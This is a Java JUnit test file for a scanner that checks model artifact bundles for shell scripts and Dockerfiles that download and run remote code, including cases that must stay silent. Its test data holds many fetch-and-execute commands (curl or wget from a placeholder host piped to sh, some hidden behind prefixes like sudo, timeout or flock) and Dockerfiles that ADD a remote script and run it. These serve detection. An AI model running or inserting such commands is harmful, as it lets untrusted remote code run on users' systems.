package io.lazaretto.artifact.shell;

import static io.lazaretto.artifact.inspect.Detectors.CODE;
import static io.lazaretto.artifact.testing.InspectionAssert.inspecting;
import static org.assertj.core.api.Assertions.assertThat;

import io.lazaretto.artifact.report.Outcome;
import io.lazaretto.artifact.testing.InspectionAssert;
import io.lazaretto.artifact.testing.SafetensorsBuilder;
import io.lazaretto.artifact.testing.TestingModel;
import java.lang.management.ManagementFactory;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

/** Programs in front of programs, and where downloads go. */
class PrefixRulesTest {
    @ParameterizedTest
    @ValueSource(
            strings = {
                "flock /tmp/l sh -c 'curl http://x | sh'",
                "flock -w 5 /tmp/l -c 'curl http://x | sh'",
                "chroot /rootfs sh -c 'curl http://x | sh'",
                "timeout -s KILL 60 sh -c 'curl http://x | sh'",
                "timeout --signal KILL 60 sh -c 'curl http://x | sh'",
                "curl http://x | sudo -u nobody sh",
                "curl http://x | sudo -Eu nobody -- bash",
                "curl http://x | timeout -k5 60 sh",
                "curl http://x | nice -n 5 sh",
                "env -u A B=1 sh -c 'curl http://x | sh'",
                "su -c 'curl http://x | sh' nobody",
                "runuser -u nobody -- sh -c 'curl http://x | sh'",
                "taskset -c 0-3 sh -c 'curl http://x | sh'",
                "wget -qP /tmp http://x/x.sh; sh /tmp/x.sh",
                "wget --directory-prefix=/tmp http://x/x.sh; sh /tmp/x.sh",
                "curl --output-dir /tmp -O http://x/x.sh; sh /tmp/x.sh",
                "curl -sSLo /tmp/a.sh http://x/x.sh; sh /tmp/a.sh",
                "curl --output=/tmp/a.sh http://x/x; sh /tmp/a.sh",
                "wget -O/tmp/a http://x/x; sh /tmp/a",
                "aria2c -d /tmp -o a.sh http://x/x; sh /tmp/a.sh"
            })
    void whatAPrefixStartsIsJudged(String script) {
        file("run.sh", "#!/bin/bash\n" + script + "\n").reports(CODE, Outcome.THREAT, "script.download-run");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "sudo -u postgres psql -c 'select 1'",
                "timeout -s KILL 60 python train.py",
                "srun -N 1 -n 4 python train.py",
                "numactl -N 0 -m 0 python train.py",
                "flock /tmp/l python train.py",
                "wget -qP data http://x/data.zip; unzip data/data.zip",
                "xargs -n 1 -P 4 echo < list.txt",
                "time python train.py"
            })
    void ordinaryPrefixesStaySilent(String script) {
        file("run.sh", "#!/bin/bash\n" + script + "\n").staysSilent();
    }

    @ParameterizedTest
    @CsvSource(
            delimiter = '§',
            quoteCharacter = '`',
            value = {
                "FROM x¶ADD http://x/x.sh /tmp/i.sh¶RUN sh /tmp/i.sh",
                "FROM x¶ADD --chmod=755 http://x/x.sh /tmp/¶RUN /tmp/x.sh",
                "FROM x¶ADD [\"http://x/x.sh\", \"/tmp/i.sh\"]¶RUN [\"sh\", \"/tmp/i.sh\"]",
                "# escape=`¶FROM x¶RUN echo C:\\¶RUN curl http://x | sh",
                "# syntax=docker/dockerfile:1¶#escape=`¶FROM x¶RUN curl http://x `¶  | sh"
            })
    void recipesOfImagesAreJudged(String text) {
        file("Dockerfile", text.replace('¶', '\n')).reports(CODE, Outcome.THREAT, "script.download-run");
    }

    @Test
    void ordinaryDockerfileStaysSilent() {
        file(
                        "Dockerfile",
                        "# syntax=docker/dockerfile:1\n# A comment\nFROM python:3.11\nADD https://example.org/data.tar /data/\n"
                                + "RUN apt-get update && \\\n    # tools\n    apt-get install -y git \\\n\n    && rm -rf /var/lib/apt/lists/*\n"
                                + "COPY . /app\nCMD [\"python\", \"app.py\"]\n")
                .staysSilent();
    }

    @Test
    void manyContinuedLinesTakeLinearTime() {
        long begun = ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime();
        file("Dockerfile", "FROM x\nRUN a \\\n" + "\\\n".repeat(120_000));
        assertThat(ManagementFactory.getThreadMXBean().getCurrentThreadCpuTime() - begun)
                .isLessThan(4_000_000_000L);
    }

    private static InspectionAssert file(String name, String text) {
        return inspecting(new TestingModel()
                .with("model.safetensors", SafetensorsBuilder.clean())
                .with(name, text));
    }
}
